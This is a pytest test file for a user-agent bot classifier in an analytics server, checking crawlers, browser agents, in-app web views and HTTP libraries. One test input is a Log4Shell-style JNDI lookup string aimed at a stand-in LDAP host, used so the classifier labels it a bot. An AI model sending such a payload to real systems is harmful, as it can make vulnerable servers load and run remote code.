"""Which agents are bots: held against a crawler list, and against people's agents in great number."""

from collections.abc import Iterator

import pytest
from crawleruseragents import CRAWLER_USER_AGENTS_DATA
from fake_useragent.utils import load
from hypothesis import given
from hypothesis import strategies as st

import millimetric_server.enrich.bots as module
from millimetric_server.enrich.bots import Verdict, judge_bot
from millimetric_server.enrich.user_agent import describe_user_agent

_PEOPLE_TAKEN_FOR_BOTS_MAX = 0.0005
_CRAWLERS_FOUND_MIN = 0.95
# What apps add to the agent of the web view that they show pages in.
_IN_APP_MARKS = (
    "[FB_IAB/FB4A;FBAV/520.0.0.43.99;]",
    "MetaIAB Facebook",
    "Instagram 358.0.0.51.90 Android (35/15; 480dpi; 1240x2772; OnePlus; CPH2581; OP595DL1; qcom; en_IN; 672535977)",
    "Viber/21.5.0.3",
    "Slack/4.39.95 Electron/31.3.0",
    "Sonic Slack_SSB/4.39.95",
    "Code/1.95.3 Electron/32.2.1",
    "SogouMSE,SogouMobileBrowser/5.6.3",
    "MicroMessenger/8.0.49",
    "[Pinterest/Android]",
    "BytedanceWebview/d8a21c6",
    "PayPal/8.60.0",
)
# Builds and models of phones that share a word with a crawler.
_MODELS = (
    "CPH2643 Build/AP3A.240617.008",
    "HTC_Butterfly_2",
    "Fever_Plus_J",
    "Expanse",
    "ViewSonic A8+ Build/JLS36C",
    "TS1008",
    "M bot 51",
    "CUBOT NOTE 30",
    "Magellan",
    "Trove Build/X",
)
_PHONE = (
    "Mozilla/5.0 (Linux; Android 15; {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Mobile Safari/537.36"
)


def _make_people() -> Iterator[str]:
    """People's agents: as they are, in lower case, and in the web views of apps."""
    for agent in sorted({row["useragent"] for row in load()}):
        yield agent
        yield agent.lower()
        yield from (f"{agent} {mark}" for mark in _IN_APP_MARKS)


def test_people_are_not_bots() -> None:
    people = list(_make_people())
    assert len(people) > 10_000
    taken = [agent for agent in people if describe_user_agent(agent).is_bot]
    assert len(taken) <= len(people) * _PEOPLE_TAKEN_FOR_BOTS_MAX, taken[:20]


def test_crawlers_are_bots() -> None:
    crawlers = [agent for crawler in CRAWLER_USER_AGENTS_DATA for agent in crawler["instances"]]
    assert len(crawlers) > 2000
    found = [agent for agent in crawlers if describe_user_agent(agent).is_bot]
    assert len(found) >= len(crawlers) * _CRAWLERS_FOUND_MIN


def test_crawlers_of_patterns_that_are_kept_are_all_bots() -> None:
    kept = [crawler for crawler in CRAWLER_USER_AGENTS_DATA if module._REPLACED.get(crawler["pattern"]) != ""]
    agents = [agent for crawler in kept for agent in crawler["instances"]]
    assert [agent for agent in agents if not describe_user_agent(agent).is_bot] == []


def test_what_is_replaced_is_in_the_package() -> None:
    assert set(module._REPLACED) <= {crawler["pattern"] for crawler in CRAWLER_USER_AGENTS_DATA}


@pytest.mark.parametrize("model", _MODELS)
def test_no_model_makes_a_bot(model: str) -> None:
    assert judge_bot(_PHONE.format(model)) is Verdict.UNKNOWN
    assert judge_bot(_PHONE.format(f"en-us; {model}")) is Verdict.UNKNOWN


def test_a_crawler_behind_a_model_is_a_bot() -> None:
    assert judge_bot(_PHONE.format("Pixel 2 Build/OPD3.170816.012; DuplexWeb-Google/1.0")) is Verdict.BOT
    assert judge_bot(_PHONE.format("Nexus 5X") + " (compatible; Googlebot/2.1)") is Verdict.BOT


@pytest.mark.parametrize(
    "agent",
    [
        "Mozilla/5.0 (compatible; Whoever/1.0; +https://whoever.example/)",
        "Mozilla/5.0 (compatible; Whoever/1.0)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0 (scan@whoever.example)",
        "Mozilla/5.0 Whoever",
        "Whoever 1.0",
        "Whoever/1.0 (+http://whoever.example)",
        "Google-Whoever",
        "SiteMonitor/2.0",
        "${jndi:ldap://x.example/a}",
    ],
)
def test_forms_that_no_browser_writes_are_bots(agent: str) -> None:
    assert judge_bot(agent) is Verdict.BOT


@pytest.mark.parametrize("agent", ["curl/8.5.0", "python-requests/2.32.3", "grpc-python/1.85.1", "http-kit/2.0"])
def test_libraries_are_programs(agent: str) -> None:
    assert judge_bot(agent) is Verdict.PROGRAM


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=300))
def test_any_text_gets_a_verdict(agent: str) -> None:
    assert judge_bot(agent) in Verdict
